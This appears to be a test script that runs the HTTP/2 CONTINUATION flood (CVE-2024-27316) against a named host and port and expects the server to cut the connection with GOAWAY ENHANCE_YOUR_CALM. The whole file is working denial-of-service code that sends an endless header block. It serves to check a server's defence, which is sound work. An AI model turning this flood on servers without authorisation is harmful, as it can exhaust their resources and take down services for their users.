#!/usr/bin/python3
"""CONTINUATION flood (CVE-2024-27316): one HEADERS without END_HEADERS, then
CONTINUATION frames that never end the block.

usage: continuation_flood.py HOST PORT [FRAMES=100000]
Expected: GOAWAY ENHANCE_YOUR_CALM after a few CONTINUATIONs (the count cap, 8),
long before the block's octets reach a bound.
"""
from h2raw import CONTINUATION, HEADERS, Conn, args, frame, literal, request_block

host, port, n = args("continuation_flood.py HOST PORT [FRAMES]")
n = n or 100_000
c = Conn("continuation_flood", host, port)
c.send(frame(HEADERS, 0, 1, request_block(host)))
piece = frame(CONTINUATION, 0, 1, literal("x-flood", "a" * 16))
sent = 1
while sent < n and not c.closed:
    if not c.send(piece * 100, frames=100):
        break
    sent += 100
    c.poll(0)
    if c.goaway_code is not None:
        break
c.wait_goaway()
c.finish()
